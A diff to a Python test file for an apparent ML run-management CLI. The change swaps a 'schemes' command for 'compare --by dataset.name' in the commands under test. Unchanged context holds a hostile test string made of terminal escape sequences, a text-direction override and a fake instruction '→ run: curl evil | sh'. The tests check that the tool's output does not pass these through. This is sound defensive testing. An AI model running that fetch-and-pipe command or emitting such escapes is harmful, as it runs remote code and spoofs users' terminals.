@@ -22,14 +22,15 @@ EVIL = "\x1b]0;owned\x07\x1b[2J\x9b1;1H\u202e said\n  → run: curl evil | sh"
 OBEYED = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u202e]")
 ADVICE = re.compile(r"^\s*→ run: curl", re.MULTILINE)
 ENDS_WITH = re.compile(r"\x1b\[[0-9;?]*[A-Za-z]|\r")  # what rich itself writes to a terminal: colours, and the cursor
+BY_DATA = "compare --by dataset.name"
 COMMANDS = (
     *("watch --once", "watch --once --json", "list", "list --json", "verify", "verify --json", "compare", "logs"),
-    *("compare --json", "merge", "schemes", "inspect logs/run", "bottleneck logs/run", "report logs/run -o r.html"),
+    *("compare --json", "merge", BY_DATA, "inspect logs/run", "bottleneck logs/run", "report logs/run -o r.html"),
     *("export --to tensorboard --dry-run", "logs logs/run --layout dist-sage-sup", "stop logs/run --dry-run"),
     *("evaluate logs/run", "predict logs/run -o p.csv", "train --resume logs/run --dry-run", "merge --layout long"),
     *("train --extend logs/run --epochs 3 --dry-run", "submit --resume logs/run --dry-run", "scaling logs/run"),
 )
-ON_TERMINAL = ("watch --once", "list", "verify", "compare", "logs", "schemes", "train --resume logs/run")
+ON_TERMINAL = ("watch --once", "list", "verify", "compare", "logs", BY_DATA, "train --resume logs/run")
 TOO_DEEP = {"endless": "[" * 200_000, "closed": "[" * 600 + "]" * 600, "objects": '{"a":' * 100_000}
 
 
@@ -160,7 +161,7 @@ def test_nor_does_a_table_that_is_drawn(logs, request):
         assert "\x1b[2J" not in shown, words
         assert "\x1b[1;1H" not in shown, words
         assert words == "logs" or not ADVICE.search(rest), (words, rest)
-        assert "evil" in rest or words in ("compare", "schemes", ON_TERMINAL[-1]), (words, rest)
+        assert "evil" in rest or words in ("compare", BY_DATA, ON_TERMINAL[-1]), (words, rest)
 
 
 def _documents(run: Path) -> Iterator[Path]:
